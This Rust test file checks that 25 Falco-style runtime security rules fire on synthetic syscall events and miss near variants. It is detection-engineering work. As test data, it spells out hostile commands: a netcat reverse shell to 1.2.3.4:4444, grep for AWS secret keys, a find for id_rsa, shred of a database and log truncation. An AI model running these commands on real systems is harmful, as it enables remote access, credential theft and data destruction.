//! Each of the 25 rules of Falco's default ruleset (`../shared/compat/
//! falco_rules.yaml`) fires on an event built to match it, and stays silent
//! on a near miss that differs in the one detail the rule is about.

use std::net::IpAddr;
use std::path::PathBuf;

use evaluate::check::catalog::Registry;
use evaluate::compile::{compile_with, NoNames, Resolve};
use evaluate::eval::CompiledRuleset;
use evaluate::fields::sample::{self, Addr, Ancestor, Container, Event, Fd, Param, Thread};
use evaluate::loader;
use schema::kestrel_capnp::{FdType, L4Proto};
use schema::Kind;

const NOW: u64 = 1_700_000_000_000_000_000;
const SECOND: u64 = 1_000_000_000;
const CAP_SYS_MODULE: u64 = 1 << 16;
const CAP_SYS_ADMIN: u64 = 1 << 21;
const O_WRONLY: u64 = 1;
const O_TRUNC: u64 = 0o1000;
const O_APPEND: u64 = 0o2000;

/// Stands in for cluster DNS: the API server's service name resolves to its
/// ClusterIP, as it would inside a pod.
struct ClusterDns;

impl Resolve for ClusterDns {
    fn resolve(&self, name: &str) -> Vec<IpAddr> {
        match name {
            "kubernetes.default.svc.cluster.local" => vec![[10, 96, 0, 1].into()],
            _ => Vec::new(),
        }
    }
}

struct Compat {
    names: Vec<String>,
    rules: CompiledRuleset,
}

fn load() -> Compat {
    let path =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/compat/falco_rules.yaml");
    assert!(path.exists(), "compat corpus missing at {}", path.display());
    let loaded = loader::load_paths(&[path], &Registry)
        .unwrap_or_else(|d| panic!("falco_rules.yaml failed to load:\n{d}"));
    assert_eq!(loaded.rules.len(), 25);
    let mut names = Vec::new();
    let mut compiled = Vec::new();
    for (i, r) in loaded.rules.iter().enumerate() {
        let c = compile_with(&r.condition, &NoNames, &ClusterDns).unwrap_or_else(|e| {
            panic!(
                "rule `{}` does not compile: {e} (in {:?})",
                r.name, e.macros
            )
        });
        assert!(
            !c.kinds.is_empty(),
            "rule `{}` matches no event type",
            r.name
        );
        names.push(r.name.clone());
        compiled.push((i, c));
    }
    Compat {
        names,
        rules: CompiledRuleset::new(compiled),
    }
}

impl Compat {
    fn fired(&self, ev: &Event) -> Vec<String> {
        sample::with_view(ev, 1, |v| {
            self.rules
                .evaluate(v)
                .map(|i| self.names[i].clone())
                .collect()
        })
    }

    fn check(&self, rule: &str, hit: &Event, miss: &Event) {
        assert!(
            self.names.iter().any(|n| n == rule),
            "no rule named `{rule}`"
        );
        let fired = self.fired(hit);
        assert!(
            fired.iter().any(|n| n == rule),
            "`{rule}` did not fire on its event; fired: {fired:?}\n{hit:#?}"
        );
        let fired = self.fired(miss);
        assert!(
            !fired.iter().any(|n| n == rule),
            "`{rule}` fired on its near miss\n{miss:#?}"
        );
    }
}

fn thread(name: &str, exepath: &str, args: &[&str], parents: &[&str]) -> Thread {
    Thread {
        tid: 4242,
        pid: 4242,
        vpid: 42,
        name: name.into(),
        exe: exepath.into(),
        exepath: exepath.into(),
        args: args.iter().map(|a| a.to_string()).collect(),
        cwd: "/root".into(),
        loginuid: u32::MAX,
        start_ts: NOW - 60 * SECOND,
        ancestors: parents
            .iter()
            .enumerate()
            .map(|(i, p)| Ancestor {
                pid: 4000 - i as i32,
                name: p.to_string(),
                exe: p.to_string(),
                exepath: format!("/usr/bin/{p}"),
                args: vec![],
            })
            .collect(),
        ..Thread::default()
    }
}

fn host() -> Container {
    Container {
        id: "host".into(),
        name: "host".into(),
        ..Container::default()
    }
}

fn alpine() -> Container {
    Container {
        id: "0123456789ab".into(),
        name: "web".into(),
        image_repository: "docker.io/library/alpine".into(),
        image_tag: "3.20".into(),
        start_ts: NOW - 3600 * SECOND,
        ..Container::default()
    }
}

fn base(kind: Kind, t: Thread) -> Event {
    Event {
        kind,
        ts: NOW,
        ret: 0,
        params: Vec::new(),
        thread: Some(t),
        fd: None,
        user: Some((0, "root".into())),
        login_user: None,
        group: Some((0, "root".into())),
        container: Some(host()),
        k8s: None,
    }
}

fn exec(t: Thread) -> Event {
    let path = t.exepath.clone();
    Event {
        params: vec![Param::Bytes(path.into_bytes())],
        ..base(Kind::Execve, t)
    }
}

fn in_container(mut e: Event) -> Event {
    e.container = Some(alpine());
    e
}

fn open(t: Thread, path: &str, raw: &str, flags: u64) -> Event {
    Event {
        ret: 3,
        params: vec![
            Param::Int(-100),
            Param::Bytes(path.as_bytes().to_vec()),
            Param::Uint(flags),
            Param::Uint(0),
            Param::Uint(0),
            Param::Uint(0),
        ],
        fd: Some(Fd {
            num: 3,
            ty: FdType::File,
            name: path.into(),
            name_raw: raw.into(),
            name_changed: true,
            ..Fd::default()
        }),
        ..base(Kind::Openat, t)
    }
}

fn connect(t: Thread, server: [u8; 4], port: u16) -> Event {
    Event {
        params: vec![Param::Int(3), Param::Addr(Addr::v4(server, port))],
        fd: Some(Fd {
            num: 3,
            ty: FdType::Ipv4,
            name: format!(
                "192.168.1.5:40000->{}.{}.{}.{}:{port}",
                server[0], server[1], server[2], server[3]
            ),
            l4proto: L4Proto::Tcp,
            local: Addr::v4([192, 168, 1, 5], 40000),
            remote: Addr::v4(server, port),
            connected: true,
            name_changed: true,
            ..Fd::default()
        }),
        ..base(Kind::Connect, t)
    }
}

fn with<T>(mut e: Event, f: impl FnOnce(&mut Event) -> T) -> Event {
    f(&mut e);
    e
}

fn th(e: &mut Event) -> &mut Thread {
    e.thread.as_mut().expect("events here have a thread")
}

#[test]
fn every_compat_rule_fires_and_misses() {
    let c = load();
    let cat = || {
        thread(
            "cat",
            "/usr/bin/cat",
            &["/etc/passwd"],
            &["nginx", "systemd"],
        )
    };

    let trav = open(cat(), "/etc/passwd", "/var/www/html/../../../etc/passwd", 0);
    c.check(
        "Directory traversal monitored file read",
        &trav,
        &with(trav.clone(), |e| {
            e.fd.as_mut().unwrap().name_raw = "/etc/passwd".into()
        }),
    );

    let nginx = open(
        thread("nginx", "/usr/sbin/nginx", &[], &["systemd"]),
        "/etc/shadow",
        "",
        0,
    );
    c.check(
        "Read sensitive file trusted after startup",
        &nginx,
        &with(nginx.clone(), |e| th(e).start_ts = NOW - SECOND),
    );

    let evil = open(
        thread("evil", "/tmp/evil", &[], &["bash"]),
        "/etc/shadow",
        "",
        0,
    );
    c.check(
        "Read sensitive file untrusted",
        &evil,
        &with(evil.clone(), |e| th(e).name = "sshd".into()),
    );

    let shell = exec(thread(
        "bash",
        "/bin/bash",
        &["-c", "id"],
        &["nginx", "systemd"],
    ));
    c.check(
        "Run shell untrusted",
        &shell,
        &with(shell.clone(), |e| {
            th(e)
                .ancestors
                .iter_mut()
                .for_each(|a| a.name = "sshd".into())
        }),
    );

    let sysuser = with(
        exec(thread("bash", "/bin/bash", &[], &["bash", "sshd"])),
        |e| e.user = Some((33, "www-data".into())),
    );
    c.check(
        "System user interactive",
        &sysuser,
        &with(sysuser.clone(), |e| e.user = Some((1000, "alice".into()))),
    );

    let tty = in_container(with(exec(thread("bash", "/bin/bash", &[], &[])), |e| {
        th(e).tty = 34816
    }));
    c.check(
        "Terminal shell in container",
        &tty,
        &with(tty.clone(), |e| th(e).tty = 0),
    );

    let api = in_container(connect(
        thread("curl", "/usr/bin/curl", &[], &["bash"]),
        [10, 96, 0, 1],
        443,
    ));
    c.check(
        "Contact K8S API Server From Container",
        &api,
        &in_container(connect(
            thread("curl", "/usr/bin/curl", &[], &["bash"]),
            [8, 8, 8, 8],
            443,
        )),
    );

    let nc = in_container(exec(thread(
        "nc",
        "/usr/bin/nc",
        &["-e", "/bin/sh", "1.2.3.4", "4444"],
        &["bash"],
    )));
    c.check(
        "Netcat Remote Code Execution in Container",
        &nc,
        &with(nc.clone(), |e| {
            th(e).args = vec!["-l".into(), "4444".into()]
        }),
    );

    let find = exec(thread(
        "find",
        "/usr/bin/find",
        &["/", "-name", "id_rsa"],
        &["bash"],
    ));
    c.check(
        "Search Private Keys or Passwords",
        &find,
        &with(find.clone(), |e| {
            th(e).args = vec!["/".into(), "-name".into(), "*.txt".into()]
        }),
    );

    let trunc = open(
        thread("bash", "/bin/bash", &[], &["sshd"]),
        "/var/log/syslog",
        "",
        O_WRONLY | O_TRUNC,
    );
    c.check(
        "Clear Log Activities",
        &trunc,
        &with(trunc.clone(), |e| {
            e.params[2] = Param::Uint(O_WRONLY | O_APPEND)
        }),
    );

    let shred = exec(thread(
        "shred",
        "/usr/bin/shred",
        &["-u", "/data/db"],
        &["bash"],
    ));
    c.check(
        "Remove Bulk Data from Disk",
        &shred,
        &with(shred.clone(), |e| th(e).name = "rm".into()),
    );

    let symlink = Event {
        params: vec![
            Param::Bytes(b"/etc/shadow".to_vec()),
            Param::Int(-100),
            Param::Bytes(b"/tmp/s".to_vec()),
        ],
        ..base(
            Kind::Symlinkat,
            thread("ln", "/usr/bin/ln", &["-s"], &["bash"]),
        )
    };
    c.check(
        "Create Symlink Over Sensitive Files",
        &symlink,
        &with(symlink.clone(), |e| {
            e.params[0] = Param::Bytes(b"/etc/hosts".to_vec())
        }),
    );

    let link = Event {
        params: vec![
            Param::Int(-100),
            Param::Bytes(b"/etc/shadow".to_vec()),
            Param::Int(-100),
            Param::Bytes(b"/tmp/h".to_vec()),
            Param::Uint(0),
        ],
        ..base(Kind::Linkat, thread("ln", "/usr/bin/ln", &[], &["bash"]))
    };
    c.check(
        "Create Hardlink Over Sensitive Files",
        &link,
        &with(link.clone(), |e| {
            e.params[1] = Param::Bytes(b"/etc/hosts".to_vec())
        }),
    );

    let packet = in_container(Event {
        ret: 3,
        params: vec![Param::Uint(17), Param::Uint(3), Param::Uint(768)],
        ..base(
            Kind::Socket,
            thread("tcpdump", "/usr/bin/tcpdump", &[], &["bash"]),
        )
    });
    c.check(
        "Packet socket created in container",
        &packet,
        &with(packet.clone(), |e| e.params[0] = Param::Uint(2)),
    );

    let dup = in_container(Event {
        ret: 1,
        params: vec![Param::Int(3), Param::Int(1)],
        fd: Some(Fd {
            num: 3,
            ty: FdType::Ipv4,
            l4proto: L4Proto::Tcp,
            local: Addr::v4([172, 17, 0, 2], 40000),
            remote: Addr::v4([1, 2, 3, 4], 4444),
            ..Fd::default()
        }),
        ..base(Kind::Dup2, thread("bash", "/bin/bash", &[], &["python3"]))
    });
    c.check(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        &dup,
        &with(dup.clone(), |e| e.ret = 5),
    );

    let module = in_container(with(
        Event {
            params: vec![Param::Int(3), Param::Bytes(Vec::new()), Param::Uint(0)],
            ..base(
                Kind::FinitModule,
                thread("insmod", "/sbin/insmod", &["evil.ko"], &["bash"]),
            )
        },
        |e| th(e).cap_effective = CAP_SYS_MODULE,
    ));
    c.check(
        "Linux Kernel Module Injection Detected",
        &module,
        &with(module.clone(), |e| th(e).cap_effective = CAP_SYS_ADMIN),
    );

    let debugfs = with(
        in_container(exec(thread(
            "debugfs",
            "/sbin/debugfs",
            &["/dev/sda1"],
            &["bash"],
        ))),
        |e| e.container.as_mut().unwrap().privileged = true,
    );
    c.check(
        "Debugfs Launched in Privileged Container",
        &debugfs,
        &with(debugfs.clone(), |e| {
            e.container.as_mut().unwrap().privileged = false
        }),
    );

    let agent = in_container(with(
        open(
            thread("sh", "/bin/sh", &[], &["bash"]),
            "/sys/fs/cgroup/rdma/x/release_agent",
            "",
            O_WRONLY,
        ),
        |e| th(e).cap_effective = CAP_SYS_ADMIN,
    ));
    c.check(
        "Detect release_agent File Container Escapes",
        &agent,
        &with(agent.clone(), |e| th(e).cap_effective = 0),
    );

    let ptrace = |req: u64| Event {
        params: vec![Param::Uint(req), Param::Int(1)],
        ..base(
            Kind::Ptrace,
            thread("gdb", "/usr/bin/gdb", &["-p", "1"], &["bash"]),
        )
    };
    c.check("PTRACE attached to process", &ptrace(16), &ptrace(2));
    c.check("PTRACE anti-debug attempt", &ptrace(0), &ptrace(16));

    let aws = exec(thread(
        "grep",
        "/usr/bin/grep",
        &["-r", "aws_secret_access_key", "/home"],
        &["bash"],
    ));
    c.check(
        "Find AWS Credentials",
        &aws,
        &with(aws.clone(), |e| {
            th(e).args = vec!["-r".into(), "hello".into()]
        }),
    );

    let shm = exec(thread("x", "/dev/shm/x", &[], &["bash"]));
    c.check(
        "Execution from /dev/shm",
        &shm,
        &with(shm.clone(), |e| th(e).exe = "/usr/bin/x".into()),
    );

    let drop = in_container(with(
        exec(thread("miner", "/tmp/miner", &[], &["sh"])),
        |e| th(e).exe_upper_layer = true,
    ));
    c.check(
        "Drop and execute new binary in container",
        &drop,
        &with(drop.clone(), |e| th(e).exe_upper_layer = false),
    );

    let ssh = connect(
        thread("ssh", "/usr/bin/ssh", &["-p", "443", "attacker"], &["bash"]),
        [1, 2, 3, 4],
        443,
    );
    c.check(
        "Disallowed SSH Connection Non Standard Port",
        &ssh,
        &connect(
            thread("ssh", "/usr/bin/ssh", &["attacker"], &["bash"]),
            [1, 2, 3, 4],
            22,
        ),
    );

    let memfd = with(exec(thread("evil", "memfd:x", &[], &["bash"])), |e| {
        th(e).exe_from_memfd = true
    });
    c.check(
        "Fileless execution via memfd_create",
        &memfd,
        &with(memfd.clone(), |e| th(e).exe_from_memfd = false),
    );
}

/// Every rule was exercised above (a rule added to the corpus must get a case).
#[test]
fn compat_rule_count_is_known() {
    assert_eq!(load().names.len(), 25);
}
